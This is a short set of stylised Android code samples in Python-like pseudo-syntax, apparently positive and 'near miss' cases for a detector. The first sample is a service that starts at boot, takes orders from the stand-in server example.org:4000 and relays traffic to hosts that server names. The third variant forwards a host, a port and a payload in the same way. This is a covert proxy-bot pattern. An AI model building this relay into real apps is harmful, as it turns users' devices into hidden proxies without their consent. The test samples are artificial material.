permissions("INTERNET", "RECEIVE_BOOT_COMPLETED")

@receiver(actions=["android.intent.action.BOOT_COMPLETED"])
class Start(BroadcastReceiver):
    def onReceive(self, context, intent):
        context.startService(Intent(context, Relay))

@service
class Relay(Service, Runnable):
    def onStartCommand(self, intent, flags, number):
        Thread(self).start()
        return 1
    def run(self):
        line = Socket("example.org", 4000)
        orders = BufferedReader(InputStreamReader(line.getInputStream()))
        while True:
            self.join(line, Socket(orders.readLine(), 443))
    def join(self, one: Socket, other: Socket):
        content = array(byte, 4096)
        one.getInputStream().read(content)
        other.getOutputStream().write(content)

# near miss: shows what its own server says, and answers that server
@service
class Relay(Service, Runnable):
    def onStartCommand(self, intent, flags, number):
        Thread(self).start()
        return 1
    def run(self):
        line = Socket("example.org", 4000)
        orders = BufferedReader(InputStreamReader(line.getInputStream()))
        while True:
            Toast.makeText(self, orders.readLine(), 443).show()
            self.join(line, line)
    def join(self, one: Socket, other: Socket):
        content = array(byte, 4096)
        one.getInputStream().read(content)
        other.getOutputStream().write(content)

# also: target and data over one wrapped stream
@service
class Relay(Service, Runnable):
    def onStartCommand(self, intent, flags, number):
        Thread(self).start()
        return 1
    def run(self):
        line = DataInputStream(Socket("example.org", 4000).getInputStream())
        other = Socket(line.readUTF(), line.readInt())
        content = array(byte, 4096)
        line.readFully(content)
        other.getOutputStream().write(content)
